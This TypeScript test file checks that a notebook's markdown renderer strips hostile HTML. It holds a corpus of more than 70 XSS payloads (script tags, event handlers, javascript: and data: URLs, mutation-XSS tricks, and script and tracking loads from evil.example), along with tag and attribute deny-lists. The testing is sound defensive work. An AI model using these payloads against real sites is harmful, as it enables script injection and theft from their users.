import { afterEach, describe, expect, it } from 'vitest';
import { renderMarkdown } from '../../src/lib/notebook/markdown.ts';

/**
 * Markdown cells come from shared links, so their HTML is hostile. The corpus
 * follows the OWASP XSS Filter Evasion Cheat Sheet and DOMPurify's published
 * mutation-XSS bypasses; every payload tries to set `window.__xss`.
 */

declare global {
  interface Window {
    __xss?: number;
  }
}

const X = 'window.__xss=1';
const B64 = 'PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg=='; // <script>window.__xss=1</script>

const PAYLOADS: string[] = [
  `<script>${X}</script>`,
  `<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>`,
  `<scr<script>ipt>${X}</scr</script>ipt>`,
  `<img src=x onerror="${X}">`,
  `<IMG SRC=JaVaScRiPt:${X}>`,
  `<img src=# onmouseover="${X}">`,
  `<svg onload="${X}">`,
  `<svg/onload=${X}>`,
  `<svg><script>${X}</script></svg>`,
  `<svg><a xlink:href="javascript:${X}"><text x="20" y="20">x</text></a></svg>`,
  `<svg><animate onbegin=${X} attributeName=x dur=1s>`,
  `<a href="javascript:${X}">x</a>`,
  `<a href="jav&#x09;ascript:${X}">x</a>`,
  `<a href="jav&#x0A;ascript:${X}">x</a>`,
  `<a href="&#x01;javascript:${X}">x</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${X}">x</a>`,
  `<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;${X}">x</a>`,
  `<a href="javascript&colon;${X}">x</a>`,
  `<a href=" &#14;  javascript:${X}">x</a>`,
  `<a href="data:text/html,<script>${X}</script>">x</a>`,
  `<a href="data:text/html;base64,${B64}">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="https://ok.example" onclick="${X}">x</a>`,
  `<a href="https://ok.example"><img src=x onerror="${X}"></a>`,
  `[x](javascript:${X})`,
  `[x](JAVASCRIPT:${X})`,
  `[x](jav&#x09;ascript:${X})`,
  `[x](&#106;avascript:${X})`,
  `[x](javascript&colon;${X})`,
  `[x](data:text/html;base64,${B64})`,
  `[x](vbscript:msgbox(1))`,
  `[x][ref]\n\n[ref]: javascript:${X}`,
  `<javascript:${X}>`,
  `![x](https://evil.example/pixel.png)`,
  `![x](javascript:${X})`,
  `![x"onerror="${X}](x)`,
  `<iframe src="javascript:${X}"></iframe>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<object data="javascript:${X}"></object>`,
  `<embed src="javascript:${X}">`,
  `<details open ontoggle="${X}">x</details>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${X}">`,
  `<math href="javascript:${X}">x</math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${X}">`,
  `<div style="width: expression(${X})">x</div>`,
  `<p style="background:url(https://evil.example/track.png)">x</p>`,
  `<base href="javascript:${X}//"><a href="/x">x</a>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${X}">`,
  `<form action="javascript:${X}"><button>x</button></form>`,
  `<form><button formaction="javascript:${X}">x</button></form>`,
  `<input autofocus onfocus="${X}">`,
  `<select autofocus onfocus=${X}>`,
  `<!--<img src=x onerror="${X}">-->`,
  `<!-- --!><img src=x onerror="${X}">-->`,
  `\`<img src=x onerror="${X}">\``,
  `\`\` <a href="javascript:${X}">x</a> \`\``,
  '```\n</code></pre><img src=x onerror="' + X + '">\n```',
  `<noscript><p title="</noscript><img src=x onerror=${X}>">`,
  `<a href="https://ok.example" title="</a><img src=x onerror=${X}>">x</a>`,
  `**<img src=x onerror="${X}">**`,
  `> <svg/onload=${X}>`,
  `- [x](javascript:${X})\n- <img src=x onerror=${X}>`,
  `| a |\n|---|\n| <img src=x onerror=${X}> |`,
  `<table><tr><td background="https://evil.example/bg.png">x</td></tr></table>`,
  `<video poster="https://evil.example/p.png"><source onerror="${X}"></video>`,
  `<body onload="${X}">`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<template><img src=x onerror="${X}"></template>`,
  `<xmp><img src=x onerror="${X}"></xmp>`,
  `<marquee onstart=${X}>x</marquee>`,
  `<div><a href="javascript:${X}">\n\n[md](javascript:${X})\n\n</a></div>`,
];

/** What markdown cells may contain, written out independently of the module. */
const ALLOWED = new Set(
  (
    'p br hr h1 h2 h3 h4 h5 h6 blockquote pre code em strong del s kbd sub sup a ' +
    'ul ol li table thead tbody tr th td details summary'
  ).split(' '),
);
const FORBIDDEN = (
  'script style iframe frame frameset object embed form input button select textarea ' +
  'svg math img image picture source video audio link meta base noscript template xmp'
).split(' ');
const URL_ATTRS = ['href', 'src', 'action', 'formaction', 'xlink:href', 'background', 'poster'];
const SAFE_URL = /^(https?:|mailto:)/i;

function detached(html: string): HTMLDivElement {
  const div = document.createElement('div');
  div.innerHTML = html;
  return div;
}

const tick = () => new Promise((resolve) => setTimeout(resolve, 50));

afterEach(() => {
  document.body.replaceChildren();
  delete window.__xss;
});

describe('renderMarkdown against an XSS corpus', () => {
  it('has at least 40 payloads', () => expect(PAYLOADS.length).toBeGreaterThanOrEqual(40));

  it.each(PAYLOADS.map((p, i) => [i, p]))('payload %i is neutralised: %s', async (_, payload) => {
    const html = renderMarkdown(payload);
    const root = detached(html);
    for (const el of root.querySelectorAll('*')) {
      const tag = el.localName;
      expect(FORBIDDEN, `<${tag}> in ${html}`).not.toContain(tag);
      expect(ALLOWED.has(tag), `<${tag}> in ${html}`).toBe(true);
      for (const attr of el.attributes) {
        expect(attr.name.toLowerCase().startsWith('on'), `${attr.name} in ${html}`).toBe(false);
        expect(attr.name, html).not.toBe('style');
        if (URL_ATTRS.includes(attr.name.toLowerCase())) {
          // Browsers ignore C0 controls and spaces in a URL's scheme, so compare without them.
          const value = [...attr.value].filter((c) => c.charCodeAt(0) > 0x20).join('');
          expect(value, `${attr.name} in ${html}`).toMatch(SAFE_URL);
        }
      }
    }
    expect(root.querySelector('img')).toBeNull();

    const live = document.createElement('div');
    document.body.append(live);
    live.innerHTML = html;
    live.querySelectorAll('details').forEach((d) => (d.open = !d.open));
    await tick();
    expect(window.__xss).toBeUndefined();
  });

  it('the live check would catch an unsanitised payload (control)', async () => {
    const live = document.createElement('div');
    document.body.append(live);
    live.innerHTML = `<img src="data:," onerror="${X}">`;
    await tick();
    expect(window.__xss).toBe(1);
  });

  it('the whole corpus makes no request to another origin', async () => {
    performance.clearResourceTimings();
    const live = document.createElement('div');
    document.body.append(live);
    live.innerHTML = PAYLOADS.map(renderMarkdown).join('\n');
    await tick();
    const foreign = performance
      .getEntriesByType('resource')
      .filter((e) => new URL(e.name).origin !== location.origin);
    expect(foreign.map((e) => e.name)).toEqual([]);
  });
});

describe('renderMarkdown keeps ordinary markdown', () => {
  it('renders headings, emphasis and lists', () => {
    const root = detached(
      renderMarkdown('# Title\n\n## Sub\n\n*em* **strong** ~~gone~~\n\n- a\n- b\n\n3. c\n4. d'),
    );
    expect(root.querySelector('h1')?.textContent).toBe('Title');
    expect(root.querySelector('h2')?.textContent).toBe('Sub');
    expect(root.querySelector('em')?.textContent).toBe('em');
    expect(root.querySelector('strong')?.textContent).toBe('strong');
    expect(root.querySelector('del')?.textContent).toBe('gone');
    expect(root.querySelectorAll('ul > li')).toHaveLength(2);
    expect(root.querySelector('ol')?.getAttribute('start')).toBe('3');
  });

  it('renders GFM tables with alignment', () => {
    const root = detached(renderMarkdown('| k | v |\n|:--|--:|\n| a | 1 |\n| b | 2 |'));
    expect(root.querySelectorAll('table thead th')).toHaveLength(2);
    expect(root.querySelectorAll('table tbody tr')).toHaveLength(2);
    expect(root.querySelector('tbody td:last-child')?.getAttribute('align')).toBe('right');
  });

  it('renders code blocks with a language class, escaped', () => {
    const root = detached(renderMarkdown('```sql\nSELECT 1 < 2;\n```\n\nand `x <b>`'));
    const code = root.querySelector('pre > code');
    expect(code?.className).toBe('language-sql');
    expect(code?.textContent).toBe('SELECT 1 < 2;\n');
    expect(root.querySelector('p > code')?.textContent).toBe('x <b>');
    expect(root.querySelector('b')).toBeNull();
  });

  it('drops class attributes other than a code language', () => {
    const root = detached(
      renderMarkdown('<p class="app-header">x</p><code class="language-js x">y</code>'),
    );
    expect(root.querySelector('[class]')).toBeNull();
  });

  it('keeps http(s) and mailto links, opening in a new tab without referrer', () => {
    const root = detached(
      renderMarkdown(
        '[site](https://example.org/a?b=1 "T") <http://example.com> [mail](mailto:a@example.org) ' +
          'www.example.net <a href="https://x.example" target="_self" rel="opener">raw</a>',
      ),
    );
    const links = [...root.querySelectorAll('a')];
    expect(links.map((a) => a.getAttribute('href'))).toEqual([
      'https://example.org/a?b=1',
      'http://example.com',
      'mailto:a@example.org',
      'http://www.example.net',
      'https://x.example',
    ]);
    expect(links[0].title).toBe('T');
    for (const a of links) {
      expect(a.getAttribute('target')).toBe('_blank');
      expect(a.getAttribute('rel')).toBe('noopener noreferrer');
    }
  });

  it('shows task-list state as text instead of inputs', () => {
    const root = detached(renderMarkdown('- [x] done\n- [ ] todo'));
    expect(root.querySelector('input')).toBeNull();
    expect(root.textContent).toContain('☑ done');
    expect(root.textContent).toContain('☐ todo');
  });
});
